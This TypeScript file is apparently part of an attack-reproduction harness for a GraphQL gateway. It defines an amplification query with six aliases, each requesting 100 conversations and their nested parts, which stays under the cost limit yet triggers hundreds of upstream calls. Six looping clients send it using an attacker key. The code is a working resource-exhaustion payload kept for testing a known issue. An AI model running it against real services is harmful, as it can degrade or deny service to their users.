import type { Attack } from './attack.js';
import { loopClients } from './clients.js';

const CLIENTS = 6;

/** Issue 11 (3): one query under the cost limit (4806) that made 630 upstream calls: 100 `parts` calls per alias. */
export const AMPLIFICATION_QUERY = /* GraphQL */ `{
  a0: conversations(first: 100) { edges { node { id parts(first: 1) { edges { node { id } } } } } }
  a1: conversations(first: 100) { edges { node { id parts(first: 1) { edges { node { id } } } } } }
  a2: conversations(first: 100) { edges { node { id parts(first: 1) { edges { node { id } } } } } }
  a3: conversations(first: 100) { edges { node { id parts(first: 1) { edges { node { id } } } } } }
  a4: conversations(first: 100) { edges { node { id parts(first: 1) { edges { node { id } } } } } }
  a5: conversations(first: 100) { edges { node { id parts(first: 1) { edges { node { id } } } } } }
}`;

/** Six clients with the attacker's key (one source) sending it in a loop. */
export const amplification: Attack = {
  key: 'amplification',
  title: `(3) ${CLIENTS} clients looping the 6-alias parts query`,
  gateway: 'keyed',
  async start(target) {
    const clients = loopClients(target.url, CLIENTS, {
      method: 'POST',
      path: '/graphql',
      headers: { 'content-type': 'application/json', accept: 'application/json', ...target.attackerAuth },
      body: JSON.stringify({ query: AMPLIFICATION_QUERY }),
    });
    return { stop: async () => String(await clients.stop()) };
  },
};
